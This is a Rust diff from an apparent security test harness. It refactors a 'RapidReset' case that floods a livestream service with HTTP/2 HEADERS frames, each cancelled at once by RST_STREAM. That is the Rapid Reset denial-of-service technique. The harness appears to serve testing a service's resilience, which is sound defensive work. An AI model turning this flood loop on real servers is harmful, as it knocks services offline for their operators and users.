@@ -3,7 +3,7 @@
 use super::hold_floods;
 use crate::attacker::Attacker;
 use crate::case::{Attack, Budgets, Case};
-use crate::frames::{END_HEADERS, HEADERS, RST_STREAM, call_headers, frame};
+use crate::frames::{END_HEADERS, HEADERS, RST_STREAM, frame};
 use crate::link::LIVESTREAMS;
 
 /// CANCEL.
@@ -26,10 +26,14 @@ impl Case for RapidReset {
     }
 
     fn run<'a>(&'a self, attacker: &'a Attacker) -> Attack<'a> {
-        Box::pin(hold_floods(attacker, &[], |out, number| {
-            let stream = 2 * number + 1;
-            frame(out, HEADERS, END_HEADERS, stream, &call_headers(&format!("{LIVESTREAMS}PublishUpdates")));
-            frame(out, RST_STREAM, 0, stream, &CODE);
-        }))
+        let headers = attacker.call_headers(&format!("{LIVESTREAMS}PublishUpdates"));
+        Box::pin(async move {
+            hold_floods(attacker, &[], |out, number| {
+                let stream = 2 * number + 1;
+                frame(out, HEADERS, END_HEADERS, stream, &headers);
+                frame(out, RST_STREAM, 0, stream, &CODE);
+            })
+            .await
+        })
     }
 }
